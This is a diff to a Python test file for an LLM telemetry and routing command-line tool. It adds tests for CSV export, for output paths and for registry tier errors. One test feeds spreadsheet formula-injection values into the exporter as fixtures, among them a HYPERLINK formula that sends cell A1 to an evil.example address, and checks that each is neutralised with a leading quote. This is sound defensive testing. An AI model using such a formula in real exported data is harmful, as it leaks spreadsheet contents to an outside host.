@@ -29,6 +29,7 @@ from empathy_models import (
     BreakerPolicy,
     CircuitState,
     LLMCallRecord,
+    ModelRegistry,
     ModelTier,
     Outcome,
     state_store_from_url,
@@ -711,6 +712,48 @@ def test_telemetry_export_csv_and_jsonl(home: Path, db: Path, tmp_path: Path) ->
     assert stat.S_IMODE(target.stat().st_mode) == 0o600
 
 
+def test_telemetry_export_csv_cells_start_no_spreadsheet_formula(
+    home: Path, tmp_path: Path
+) -> None:
+    # an answer, a prompt or a provider's error text is not the exporter's to trust: a
+    # cell starting with =, +, -, @, a tab or a carriage return is a formula to a
+    # spreadsheet opening the CSV, so it is written after a quote (JSON lines as stored)
+    path = tmp_path / "odd.db"
+    record = LLMCallRecord(
+        provider="anthropic",
+        model="claude-haiku-4-5",
+        outcome="failure",
+        workflow="+cmd",
+        stage="-stage",
+        error_message='=HYPERLINK("https://evil.example/?"&A1,"details")',
+        prompt_text="@SUM(1+1)",
+        response_text="\t=1+1",
+        error_type="ServerError",
+        latency_ms=12.5,
+    )
+
+    async def fill() -> None:
+        async with telemetry_from_url(f"sqlite:///{path}") as telemetry:
+            await telemetry.record(record)
+            await telemetry.flush()
+
+    anyio.run(fill)
+    out = ok(cli(home, "telemetry", "export", "--format", "csv", "--db", str(path)))
+    (row,) = list(csv.DictReader(io.StringIO(out)))
+    assert row["workflow"] == "'+cmd"
+    assert row["stage"] == "'-stage"
+    assert row["error_message"] == "'" + str(record.error_message)
+    assert row["prompt_text"] == "'@SUM(1+1)"
+    assert row["response_text"] == "'\t=1+1"
+    assert (row["error_type"], row["latency_ms"], row["model"]) == (
+        "ServerError",
+        "12.5",
+        "claude-haiku-4-5",
+    )
+    line = ok(cli(home, "telemetry", "export", "--format", "jsonl", "--db", str(path)))
+    assert LLMCallRecord.from_dict(json.loads(line)) == record
+
+
 def test_telemetry_export_says_when_its_limit_left_older_records_out(
     home: Path, db: Path, tmp_path: Path
 ) -> None:
@@ -742,6 +785,10 @@ def test_telemetry_export_to_dash_writes_to_stdout(home: Path, db: Path, tmp_pat
     args = ("telemetry", "export", "--format", "jsonl", "--db", str(db), "-o", "-")
     assert len(ok(cli(home, *args, cwd=tmp_path)).splitlines()) == _RECORDS
     assert not (tmp_path / "-").exists()
+    # "./-" is the file named "-", as for other commands (pathlib reads it as "-")
+    result = cli(home, *args[:-1], "./-", cwd=tmp_path)
+    assert ok(result) == "" and result.stderr.endswith(" to ./-\n")
+    assert len((tmp_path / "-").read_text().splitlines()) == _RECORDS
     odd = tmp_path / "calls\nexport.csv"  # a path is shown quoted when it needs it
     result = cli(home, "telemetry", "export", "--format", "csv", "--db", str(db), "-o", str(odd))
     assert f"to {str(odd)!r}" in result.stderr
@@ -986,6 +1033,23 @@ def test_routing_best_with_nothing_qualifying_fails_with_reasons(home: Path, db:
     )
     assert result.returncode == 1
     assert "claude-haiku-4-5" in result.stderr and "Traceback" not in result.stderr
+
+
+def test_routing_best_of_a_tier_the_registry_has_no_model_of_is_a_usage_error(
+    home: Path, db: Path, tmp_path: Path
+) -> None:
+    # it failed with exit 1 saying "no candidate models for docs/write", not why
+    registry = tmp_path / "cheap-only.json"
+    registry.write_text(
+        json.dumps(
+            {"price_version": "t", "models": [ModelRegistry.default().get("gpt-4o-mini").to_dict()]}
+        )
+    )
+    args = ("routing", "best", "docs", "write", "--db", str(db), "--registry", str(registry))
+    result = cli(home, *args, "--tier", "premium")
+    assert result.returncode == 2, (result.stdout, result.stderr)
+    assert "--tier premium: the registry has no premium model" in result.stderr
+    assert "gpt-4o-mini" in result.stderr and "Traceback" not in result.stderr
 
 
 def test_routing_upgrades_flags_the_failing_stage(home: Path, db: Path) -> None:
